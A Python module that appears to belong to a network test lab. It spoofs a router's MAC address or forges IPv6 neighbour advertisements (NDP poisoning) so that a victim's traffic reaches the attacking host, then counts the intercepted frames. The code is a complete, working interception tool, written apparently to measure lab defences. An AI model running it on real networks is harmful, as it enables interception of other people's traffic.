"""Claims another's address, and counts what it gets for it.

An endpoint sends frames that say that the router's address is its own, a hundred a second, and
counts the unicast frames of its victim that arrive at it: each one is stolen. Stops by itself, then
writes one JSON object.

    python -m lab.thief mac --device red0 --mac 02:00:00:00:02:01 --router-mac 02:00:00:00:01:02 \\
        --router-ip fe80::1 --victim-mac 02:00:00:00:01:01 --victim-ip 2001:db8:1::1 --seconds 5
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import struct
import sys
from collections.abc import Callable
from typing import NamedTuple

from lab import frames
from lab.costly import LEAST_BYTES, LOCAL_ETHERTYPE, NOBODY
from lab.frames import ethernet, icmpv6
from lab.sender import LONGEST_S, READY, Until, packet_socket

#: Between two claims.
CLAIM_S = 0.01
#: All EtherTypes (packet(7)).
_ALL = 0x0003
#: Of a frame's headers as many as name its ends.
_ENDS_BYTES = 12
#: Of packet(7)'s address: a frame that this socket's host has sent.
_OUTGOING = 4
#: Flags of a neighbour advertisement (RFC 4861, section 4.4): it replaces what was known.
_OVERRIDE = 0x2000_0000


class Claim(NamedTuple):
    """Who is who, as text."""

    mac: str
    router_mac: str
    router_ip: str
    victim_mac: str
    victim_ip: str


def advertisement(source: str, to: str, target: str, mac: str) -> bytes:
    """A packet that says: `target` is at `mac` (RFC 4861, section 4.4)."""
    option = bytes([2, 1]) + frames.mac_bytes(mac)
    address = ipaddress.IPv6Address(target).packed
    return icmpv6(source, to, struct.pack("!BBHI", 136, 0, 0, _OVERRIDE) + address + option)


def claim_mac(c: Claim) -> list[bytes]:
    """A frame from the router's MAC address."""
    return [ethernet(NOBODY, c.router_mac, LOCAL_ETHERTYPE, bytes(LEAST_BYTES - 14))]


def claim_link_local(c: Claim) -> list[bytes]:
    """Advertisements for the router's link-local address: from it, and from an address of the
    thief's own; to the victim, and to all."""
    own = frames.link_local(c.mac)
    return [
        ethernet(c.victim_mac, c.mac, frames.IPV6, advertisement(source, to, c.router_ip, c.mac))
        for source in (c.router_ip, own)
        for to in (c.victim_ip, "ff02::1")
    ]


KINDS: dict[str, Callable[[Claim], list[bytes]]] = {
    "mac": claim_mac,
    "link-local": claim_link_local,
}


def is_stolen(frame: bytes, packet_type: int, c: Claim) -> bool:
    """Whether a frame is the victim's, and for the router or whom it takes for the router."""
    to, source = frame[:6], frame[6:_ENDS_BYTES]
    wanted = frames.mac_bytes(c.router_mac), frames.mac_bytes(c.mac)
    return packet_type != _OUTGOING and source == frames.mac_bytes(c.victim_mac) and to in wanted


def steal(device: str, claims: list[bytes], c: Claim, seconds: float) -> dict[str, object]:
    """Claims for `seconds`, or until SIGTERM; how many claims went out, and what came of them."""
    sock = packet_socket(device, _ALL)
    sock.settimeout(CLAIM_S)
    claimed = stolen = 0
    until, due_s = Until(seconds), 0.0
    print(READY, file=sys.stderr, flush=True)
    while until.over_s < 0:
        if until.elapsed_s >= due_s:
            sock.send(claims[claimed % len(claims)])
            claimed += 1
            due_s += CLAIM_S
        try:
            frame, address = sock.recvfrom(_ENDS_BYTES)
        except TimeoutError:
            continue
        stolen += is_stolen(frame, address[2], c)
    return {"claimed": claimed, "stolen": stolen, "per_s": claimed / until.lasts_s}


def main() -> int:
    parser = argparse.ArgumentParser(prog="lab.thief", description=__doc__.split("\n")[0])
    parser.add_argument("kind", choices=list(KINDS))
    parser.add_argument("--device", required=True)
    for name in Claim._fields:
        parser.add_argument(f"--{name.replace('_', '-')}", required=True)
    parser.add_argument("--seconds", type=float, required=True)
    args = parser.parse_args()
    if not 0 < args.seconds <= LONGEST_S:
        parser.error(f"at most {LONGEST_S:g} s")
    claim = Claim(*(getattr(args, name) for name in Claim._fields))
    told = steal(args.device, KINDS[args.kind](claim), claim, args.seconds)
    print(json.dumps(told), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
